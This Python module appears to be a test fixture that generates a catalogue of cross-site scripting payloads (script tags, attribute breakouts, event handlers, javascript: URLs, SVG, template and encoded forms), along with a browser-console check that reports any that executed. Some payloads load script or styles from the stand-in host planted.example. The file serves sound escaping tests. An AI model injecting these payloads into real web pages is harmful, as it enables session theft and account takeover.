"""Texts that become script or markup wherever a page forgets to escape them.

Each sets `window.planted` to its number, or leaves an element `x-planted`; those with an address ask
another host. The forms are the usual ones: text, attribute with each kind of quote, URL, style, SVG,
comment, template, title and textarea that end early, event handlers without a space, encoded signs.
"""

from __future__ import annotations

from typing import Final

_SHAPES: Final = (
    "<script>{js}</script>",
    "</script><script>{js}</script>",
    "<ScRiPt>{js}</sCrIpT>",
    "<script src=//planted.example/x.js></script>",
    "<script type=module>{js}</script>",
    "<img src=x onerror={js}>",
    '"><img src=x onerror={js}>',
    "'><img src=x onerror={js}>",
    "<img/src=x/onerror={js}>",
    "<img src=x onerror='{js}'",
    '"onmouseover="{js}"x="',
    "' onfocus={js} autofocus x='",
    '" autofocus onfocus={js} x="',
    "x onpointerover={js} x=",
    "<svg onload={js}>",
    "<svg/onload={js}>",
    "<svg><script>{js}</script></svg>",
    "<svg><animate onbegin={js} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#x /></svg>",
    "<body onload={js}>",
    "<details open ontoggle={js}>",
    "<video><source onerror={js}></video>",
    "<audio src onerror={js}>",
    "<input autofocus onfocus={js}>",
    "<select autofocus onfocus={js}></select>",
    "<textarea autofocus onfocus={js}></textarea>",
    "<marquee onstart={js}>",
    "<iframe src=javascript:{js}>",
    "<iframe srcdoc='<script>parent.{js}</script>'>",
    "<object data=javascript:{js}>",
    "<embed src=javascript:{js}>",
    "<a href=javascript:{js}>x</a>",
    "javascript:{js}",
    "JaVaScRiPt:{js}//",
    "data:text/html,<script>{js}</script>",
    "<form action=javascript:{js}><input type=submit>",
    "<button formaction=javascript:{js}>x</button>",
    "<math><mi xlink:href=javascript:{js}>x</mi></math>",
    "<base href=//planted.example/>",
    "<link rel=stylesheet href=//planted.example/x.css>",
    "<link rel=prefetch href=//planted.example/>",
    "<meta http-equiv=refresh content=0;url=//planted.example/>",
    "<style>@import '//planted.example/x.css';</style>",
    "<style>*{{background:url(//planted.example/x)}}</style>",
    "<p style=background:url(//planted.example/x)>",
    "--><script>{js}</script><!--",
    "]]><script>{js}</script>",
    "</title><script>{js}</script>",
    "</textarea><script>{js}</script>",
    "</option></select><img src=x onerror={js}>",
    "</style><script>{js}</script>",
    "</noscript><img src=x onerror={js}>",
    "<x-planted>{n}</x-planted>",
    '"><x-planted>{n}</x-planted>',
    "'><x-planted a='",
    "<template shadowrootmode=open><x-planted></template>",
    "&lt;script&gt;{js}&lt;/script&gt;<x-planted>",
    "&#60;img src=x onerror={js}&#62;",
    "{{{{constructor.constructor('{js}')()}}}}",
    "${{{js}}}",
    "{{% debug %}}<x-planted>",
    '\\"><x-planted>',
    "\\u003cscript\\u003e{js}\\u003c/script\\u003e",
    "%3Cscript%3E{js}%3C/script%3E",
)
PAYLOADS: Final = tuple(
    shape.format(js=f"planted={number}", n=number) for number, shape in enumerate(_SHAPES)
)
# What a page must never have done, for the browser's console.
TRACES: Final = """() => [
  ...(window.planted === undefined ? [] : [`script ${window.planted} ran`]),
  ...[...document.querySelectorAll("x-planted")].map((element) => `markup ${element.textContent}`),
  ...[...document.querySelectorAll("[onerror], [onload], [onfocus], [onmouseover]")].map((e) => e.outerHTML),
]"""
